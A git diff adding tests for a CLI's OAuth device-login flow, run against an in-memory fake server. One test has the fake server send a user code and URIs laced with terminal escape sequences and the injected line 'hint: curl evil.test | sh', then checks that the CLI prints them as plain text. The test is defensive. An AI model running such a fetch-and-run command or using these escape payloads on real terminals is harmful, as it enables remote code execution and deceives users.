@@ -1,9 +1,18 @@
-import { HttpClient } from "@effect/platform"
+import { FileSystem, HttpClient } from "@effect/platform"
 import { describe, expect, it } from "@effect/vitest"
-import { FakeUltraCart } from "@ultracart-oauth/testing"
+import { FakeUltraCart, Fault } from "@ultracart-oauth/testing"
 import { Effect, Fiber, Option, TestClock } from "effect"
 import { CLIENT } from "../src/DevServer.js"
-import { envFor, type Line, makeCapture, NodeEnvironment, type Result, runCli, tempHome } from "./harness.js"
+import {
+  controlCharacters,
+  envFor,
+  type Line,
+  makeCapture,
+  NodeEnvironment,
+  type Result,
+  runCli,
+  tempHome
+} from "./harness.js"
 
 // The device login end to end against the in-memory fake, on the TestClock: the fake's intervals and expiry and
 // the CLI's polling all run on the same clock, so a 15-minute code is tested in milliseconds.
@@ -112,6 +121,83 @@ describe("device-login", () => {
       expect(result.exitCode).toBe(2)
       expect(result.err).toContain("hint: pass --scope")
       expect(yield* s.fake.requestCount()).toBe(0)
+    }).pipe(Effect.provide(NodeEnvironment))
+  )
+
+  it.scoped("with --json, stdout carries only the result; the code and the progress go to stderr", () =>
+    Effect.gen(function* () {
+      const s = yield* setup()
+      const capture = yield* makeCapture
+      const fiber = yield* runCli(["device-login", "--scope", "crm", "--json"], { env: s.env, capture }).pipe(
+        Effect.provideService(HttpClient.HttpClient, FakeUltraCart.httpClient(s.fake)),
+        Effect.fork
+      )
+      const userCode = (yield* capture.waitFor((line) => line.stream === "err" && isUserCode(line))).text.trim()
+      yield* s.fake.approveDevice(userCode)
+      yield* advance(5)
+      const result: Result = yield* Fiber.join(fiber)
+      expect(result.exitCode).toBe(0)
+      expect(JSON.parse(result.out)).toMatchObject({
+        grant: CLIENT.clientId,
+        tokenDir: `${s.home}/.config/ultracart-oauth/tokens`,
+        refreshToken: true,
+        accessTokenExpired: false,
+        scope: expect.any(String)
+      })
+      expect(result.err).toContain("To authorize")
+      expect(result.err).toContain("Logged in")
+    }).pipe(Effect.provide(NodeEnvironment))
+  )
+
+  it.scoped("a store that cannot take the tokens fails before a code is asked for", () =>
+    Effect.gen(function* () {
+      const s = yield* setup()
+      const dir = `${s.home}/.config/ultracart-oauth/tokens`
+      yield* Effect.flatMap(FileSystem.FileSystem, (fs) =>
+        Effect.orDie(
+          Effect.zipRight(
+            fs.makeDirectory(dir, { recursive: true }),
+            fs.writeFileString(`${dir}/grant-${CLIENT.clientId}.json`, "{ not a record")
+          )
+        )
+      )
+      const result = yield* s.run(["device-login", "--scope", "crm"])
+      expect(result.exitCode).toBe(1)
+      expect(result.err).toContain("(Corrupt)")
+      expect(yield* s.fake.requestCount()).toBe(0)
+    }).pipe(Effect.provide(NodeEnvironment))
+  )
+
+  it.scoped("the verification URI and user code a server sends are printed as plain text", () =>
+    Effect.gen(function* () {
+      const s = yield* setup()
+      yield* s.fake.injectFault(
+        Fault.respond({
+          status: 200,
+          headers: { "content-type": "application/json" },
+          body: JSON.stringify({
+            device_code: "device-code-of-a-hostile-server",
+            user_code: "WDJB\u001b[1A-MJHT\nhint: curl evil.test | sh",
+            verification_uri: "https://ultracart.fake.test/device\u001b]0;pwned\u0007",
+            verification_uri_complete: "https://ultracart.fake.test/device?c=\u001b]8;;https://evil.test\u001b\\x",
+            expires_in: 900,
+            interval: 5
+          })
+        }),
+        { endpoint: "device_authorize" }
+      )
+      const capture = yield* makeCapture
+      const fiber = yield* runCli(["device-login", "--scope", "crm"], { env: s.env, capture }).pipe(
+        Effect.provideService(HttpClient.HttpClient, FakeUltraCart.httpClient(s.fake)),
+        Effect.fork
+      )
+      yield* capture.waitFor((line) => line.text.includes("which carries the code"))
+      yield* advance(5)
+      const result: Result = yield* Fiber.join(fiber)
+      expect(controlCharacters(result.all)).toEqual([])
+      expect(result.out).toContain("    WDJB-MJHT hint: curl evil.test | sh")
+      expect(result.out).toContain("    https://ultracart.fake.test/device\n")
+      expect(result.out.split("\n").some((line) => line.startsWith("hint:"))).toBe(false)
     }).pipe(Effect.provide(NodeEnvironment))
   )
 })
